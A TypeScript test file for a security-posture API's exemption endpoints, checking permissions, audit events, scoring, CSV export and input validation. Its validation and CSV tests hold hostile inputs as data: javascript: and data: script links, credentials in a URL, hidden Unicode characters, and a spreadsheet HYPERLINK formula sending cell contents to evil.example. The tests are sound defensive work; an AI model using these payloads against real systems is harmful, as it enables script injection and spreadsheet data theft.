import request from 'supertest';
import { parse } from 'csv-parse/sync';
import {
  createApiHarness,
  PLANTED_SECRETS,
  PrincipalName,
  PRINCIPALS,
} from './__testUtils__/apiHarness';
import { createTestDatabases } from './database/__testUtils__/databases';

const databases = createTestDatabases();
const BASE = '/api/security-posture';
const DAY = 24 * 60 * 60 * 1000;

// The harness's findings: fp<i><entity> of catalog/leaked-secret, severities by i % 5.
const SAMS_CRITICAL = 'fp0componentdefaultpaymentsapi';
const IDENTITY_LOW = 'fp3componentdefaultidentitygateway';
const DEPLOYMENT_FINDING = 'fp6deployment';

const inDays = (days: number) => new Date(Date.now() + days * DAY).toISOString();

function acceptedRisk(scope: object, overrides: object = {}) {
  return {
    scope,
    kind: 'accepted-risk',
    reason: 'The key is revoked at the provider; rotation ships with the next release',
    expiresAt: inDays(30),
    ticket: 'https://tickets.example.com/SEC-42',
    ...overrides,
  };
}

describe.each(databases.eachSupportedId())('router: exemptions on %p', databaseId => {
  let harness: Awaited<ReturnType<typeof createApiHarness>>;
  beforeEach(async () => {
    harness = await createApiHarness(databaseId, { databases });
  }, 60_000);

  const as = (who: PrincipalName) => ({
    get: (url: string) => request(harness.app).get(`${BASE}${url}`).set('Authorization', PRINCIPALS[who]),
    post: (url: string, body: object) =>
      request(harness.app).post(`${BASE}${url}`).set('Authorization', PRINCIPALS[who]).send(body),
    delete: (url: string) =>
      request(harness.app).delete(`${BASE}${url}`).set('Authorization', PRINCIPALS[who]),
  });

  it('the platform team exempts a finding with a reason: it is exempted, left out of the score, in the CSV and audited', async () => {
    const before = (await as('platform').get('/summary')).body;
    const created = await as('platform').post(
      '/exemptions',
      acceptedRisk({ type: 'finding', fingerprint: SAMS_CRITICAL }),
    );
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      id: expect.any(String),
      scope: {
        type: 'finding',
        fingerprint: SAMS_CRITICAL,
        checkId: 'catalog/leaked-secret',
        entityRef: 'component:default/payments-api',
      },
      kind: 'accepted-risk',
      createdBy: 'user:default/alice',
      state: 'active',
      ticket: 'https://tickets.example.com/SEC-42',
    });

    const after = (await as('platform').get('/summary')).body;
    expect(after.openFindings).toBe(before.openFindings - 1);
    expect(after.counts.critical).toBe(before.counts.critical - 1);
    expect(after.score).toBeGreaterThan(before.score);
    expect(after.exempted).toMatchObject({ findings: 1, counts: { critical: 1 }, score: before.score });

    const finding = (await as('platform').get(`/findings/${SAMS_CRITICAL}`)).body;
    expect(finding).toMatchObject({ status: 'exempted', exemption: { id: created.body.id } });
    const exempted = (await as('platform').get('/findings?status=exempted')).body;
    expect(exempted.items.map((f: any) => f.fingerprint)).toEqual([SAMS_CRITICAL]);
    // The owner sees it exempted on his entity tab.
    const tab = (await as('owner').get('/entities/component/default/payments-api/findings')).body;
    expect(tab.findings.find((f: any) => f.fingerprint === SAMS_CRITICAL)).toMatchObject({
      status: 'exempted',
      exemption: { kind: 'accepted-risk', reason: expect.stringContaining('revoked at the provider') },
    });

    const csv = await as('platform').get('/export.csv?status=open&status=exempted');
    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
    expect(rows.find(r => r.fingerprint === SAMS_CRITICAL)).toMatchObject({
      status: 'exempted',
      exemptionState: 'active',
      exemptionKind: 'accepted-risk',
      exemptionCreatedBy: 'user:default/alice',
      exemptionTicket: 'https://tickets.example.com/SEC-42',
    });

    const events = harness.auditor.createEvent.mock.calls.map(([e]: any) => e);
    const create = events.find((e: any) => e.eventId === 'exemption-create');
    expect(create).toMatchObject({ severityLevel: 'medium', meta: { kind: 'accepted-risk' } });
    const results = await Promise.all(harness.auditor.createEvent.mock.results.map(r => r.value));
    const createEvent = results[events.indexOf(create)];
    expect(createEvent.success).toHaveBeenCalledWith({
      meta: expect.objectContaining({ exemptionId: created.body.id, createdBy: 'user:default/alice' }),
    });
  });

  it('counts-only callers still get counts only, without exempted findings in them', async () => {
    await as('platform').post(
      '/exemptions',
      acceptedRisk({ type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/identity-gateway' }),
    );
    const counts = await as('ownsNothing').get('/entities/component/default/identity-gateway/findings');
    expect(counts.status).toBe(200);
    expect(counts.body).toEqual({
      entityRef: 'component:default/identity-gateway',
      visibility: 'counts',
      counts: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
    });
    expect(counts.text).not.toMatch(/exempt|revoked at the provider|alice/i);
    const csv = await as('ownsNothing').get('/entities/component/default/identity-gateway/findings.csv');
    expect(csv.text).not.toMatch(/exempt|revoked at the provider|alice/i);
  });

  it('who may exempt what: owners their own entities, the platform team anything, deployment-wide only the platform team', async () => {
    const finding = (fingerprint: string) => ({ type: 'finding', fingerprint });
    const cases: Array<[PrincipalName, object, number]> = [
      // Sam owns payments-api.
      ['owner', finding(SAMS_CRITICAL), 201],
      ['owner', { type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/payments-api' }, 201],
      // Not his: a finding he may not see is not found; a target on another entity is refused.
      ['owner', finding(IDENTITY_LOW), 404],
      ['owner', { type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/identity-gateway' }, 403],
      // Deployment-wide scopes.
      ['owner', finding(DEPLOYMENT_FINDING), 404],
      ['owner', { type: 'target', checkId: 'auth/cors-wildcard', configPath: 'backend.cors.origin' }, 403],
      ['owner', { type: 'entities', checkId: 'catalog/leaked-secret', owner: 'group:default/payments-checkout' }, 403],
      ['owner', { type: 'entities', checkId: 'catalog/leaked-secret', entityKind: 'Component' }, 403],
      // Dana owns nothing.
      ['ownsNothing', finding(SAMS_CRITICAL), 404],
      ['ownsNothing', { type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/payments-api' }, 403],
      ['ownsNothing', { type: 'entities', checkId: 'catalog/leaked-secret', entityKind: 'Component' }, 403],
      ['guest', { type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/payments-api' }, 403],
      ['unauthenticated', finding(SAMS_CRITICAL), 401],
      // The platform team: everything.
      ['platform', finding(DEPLOYMENT_FINDING), 201],
      ['platform', { type: 'target', checkId: 'auth/cors-wildcard', configPath: 'backend.cors.origin' }, 201],
      ['platform', { type: 'entities', checkId: 'catalog/leaked-secret', owner: 'group:default/payments-checkout' }, 201],
      ['platform', { type: 'entities', checkId: 'catalog/leaked-secret', entityKind: 'Component' }, 201],
      ['platform', finding(IDENTITY_LOW), 201],
    ];
    const outcomes = [];
    for (const [who, scope] of cases) {
      const res = await as(who).post('/exemptions', acceptedRisk(scope));
      outcomes.push([who, scope, res.status]);
    }
    expect(outcomes).toEqual(cases);
    // Refused ones are audited as failures.
    const refused = (await Promise.all(harness.auditor.createEvent.mock.results.map(r => r.value))).filter(
      (e: any, i: number) =>
        harness.auditor.createEvent.mock.calls[i][0].eventId === 'exemption-create' && e.fail.mock.calls.length,
    );
    expect(refused).toHaveLength(cases.filter(([, , status]) => status !== 201 && status !== 401).length);
  });

  it('refuses what it must not store, without repeating it', async () => {
    const scope = { type: 'finding', fingerprint: SAMS_CRITICAL };
    const bad: Array<[string, object]> = [
      ['accepted risk without expiry', acceptedRisk(scope, { expiresAt: undefined })],
      ['expiry past the maximum', acceptedRisk(scope, { expiresAt: inDays(91) })],
      ['expiry in the past', acceptedRisk(scope, { expiresAt: inDays(-1) })],
      ['expiry not a date', acceptedRisk(scope, { expiresAt: 'next spring' })],
      ['empty reason', acceptedRisk(scope, { reason: '' })],
      ['blank reason', acceptedRisk(scope, { reason: '   ' })],
      ['secret in the reason', acceptedRisk(scope, { reason: `the key ${PLANTED_SECRETS[0]} is a test key` })],
      ['token in the ticket', acceptedRisk(scope, { ticket: `https://tickets.example.com/x?token=${PLANTED_SECRETS[1]}` })],
      ['credentials in the ticket', acceptedRisk(scope, { ticket: 'https://bob:hunter2@tickets.example.com/SEC-1' })],
      ['script ticket', acceptedRisk(scope, { ticket: `${'java'}script:alert(1)` })],
      ['data ticket', acceptedRisk(scope, { ticket: 'data:text/html,<script>alert(1)</script>' })],
      ['text-direction override', acceptedRisk(scope, { reason: 'fine \u202Eelif' })],
      ['zero-width text', acceptedRisk(scope, { reason: 'fine\u200Bhidden' })],
      ['control character', acceptedRisk(scope, { reason: 'bell \u0007' })],
      ['unknown kind', acceptedRisk(scope, { kind: 'wont-fix' })],
      ['unknown field', acceptedRisk(scope, { approvedBy: 'user:default/alice' })],
      ['creator given', acceptedRisk(scope, { createdBy: 'user:default/sam' })],
      ['unknown check', acceptedRisk({ type: 'target', checkId: 'catalog/nope', entityRef: 'component:default/payments-api' })],
      ['both targets', acceptedRisk({ type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/payments-api', configPath: 'a.b' })],
      ['no entity set', acceptedRisk({ type: 'entities', checkId: 'catalog/leaked-secret' })],
      ['not an entity ref', acceptedRisk({ type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'payments api' })],
      ['bad config path', acceptedRisk({ type: 'target', checkId: 'auth/cors-wildcard', configPath: 'a b; drop' })],
      ['long reason', acceptedRisk(scope, { reason: 'x'.repeat(2001) })],
    ];
    for (const [what, body] of bad) {
      const res = await as('platform').post('/exemptions', body);
      expect({ what, status: res.status, name: res.body.error?.name }).toEqual({
        what,
        status: 400,
        name: 'InputError',
      });
      for (const secret of [...PLANTED_SECRETS, 'hunter2']) expect(res.text).not.toContain(secret);
    }
    expect((await as('platform').get('/exemptions')).body.totalItems).toBe(0);
    // Other kinds need no expiry.
    const falsePositive = await as('platform').post('/exemptions', {
      scope,
      kind: 'false-positive',
      reason: 'A test fixture',
    });
    expect(falsePositive.status).toBe(201);
    expect(falsePositive.body.expiresAt).toBeUndefined();
  });

  it('neutralises formula-like exemption text in the CSV', async () => {
    await as('platform').post('/exemptions', {
      scope: { type: 'finding', fingerprint: SAMS_CRITICAL },
      kind: 'mitigated-elsewhere',
      reason: '=HYPERLINK("https://evil.example/?x="&A1,"WAF blocks it")',
    });
    const csv = await as('owner').get('/entities/component/default/payments-api/findings.csv');
    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
    expect(rows.find(r => r.fingerprint === SAMS_CRITICAL)?.exemptionReason).toBe(
      '\'=HYPERLINK("https://evil.example/?x="&A1,"WAF blocks it")',
    );
  });

  it('lists exemptions by visibility and filter, and revokes them with the delete permission', async () => {
    const sams = (
      await as('owner').post('/exemptions', acceptedRisk({ type: 'finding', fingerprint: SAMS_CRITICAL }, { expiresAt: inDays(3) }))
    ).body;
    const wide = (
      await as('platform').post(
        '/exemptions',
        acceptedRisk({ type: 'entities', checkId: 'catalog/leaked-secret', entityKind: 'Component' }, { expiresAt: inDays(60) }),
      )
    ).body;
    const identity = (
      await as('platform').post('/exemptions', {
        scope: { type: 'finding', fingerprint: IDENTITY_LOW },
        kind: 'false-positive',
        reason: 'Not a credential',
      })
    ).body;

    const platformList = (await as('platform').get('/exemptions')).body;
    expect(platformList).toMatchObject({ scope: 'all', totalItems: 3 });
    expect(platformList.items.map((e: any) => e.id)).toEqual([sams.id, wide.id, identity.id]);
    expect((await as('platform').get('/exemptions?expiringWithinDays=7')).body.items.map((e: any) => e.id)).toEqual([
      sams.id,
    ]);
    expect((await as('platform').get('/exemptions?createdBy=user:default/sam')).body.totalItems).toBe(1);
    expect((await as('platform').get('/exemptions?scopeType=entities')).body.items[0].id).toBe(wide.id);

    // Sam: only exemptions about his entities; Dana: none.
    const samList = (await as('owner').get('/exemptions')).body;
    expect(samList).toMatchObject({ scope: 'mine', totalItems: 1 });
    expect(samList.items[0].id).toBe(sams.id);
    expect((await as('ownsNothing').get('/exemptions')).body).toMatchObject({ scope: 'mine', totalItems: 0, items: [] });

    // Revoking: not Dana, not Sam for what he may not see; Sam his own; twice is a conflict.
    expect((await as('ownsNothing').delete(`/exemptions/${sams.id}`)).status).toBe(404);
    expect((await as('owner').delete(`/exemptions/${wide.id}`)).status).toBe(404);
    expect((await as('owner').delete(`/exemptions/${identity.id}`)).status).toBe(404);
    const revoked = await as('owner').delete(`/exemptions/${sams.id}`);
    expect(revoked.status).toBe(200);
    expect(revoked.body).toMatchObject({ state: 'revoked', revokedBy: 'user:default/sam' });
    expect((await as('owner').delete(`/exemptions/${sams.id}`)).status).toBe(409);
    expect((await as('platform').delete('/exemptions/no-such-id')).status).toBe(404);
    expect((await as('platform').delete(`/exemptions/${wide.id}`)).status).toBe(200);
    expect((await as('platform').get('/exemptions?state=revoked')).body.totalItems).toBe(2);
    expect((await as('platform').get('/exemptions?state=active')).body.items.map((e: any) => e.id)).toEqual([
      identity.id,
    ]);
    const revokeEvents = harness.auditor.createEvent.mock.calls.filter(([e]: any) => e.eventId === 'exemption-revoke');
    expect(revokeEvents.length).toBe(7);
  });

  it.each([
    'state=pending',
    'scopeType=all',
    'expiringWithinDays=0',
    'expiringWithinDays=1e2',
    'limit=201',
    'owner=group:default/x',
  ])('GET /exemptions?%s is a 400', async query => {
    const res = await as('platform').get(`/exemptions?${query}`);
    expect(res.status).toBe(400);
  });
});
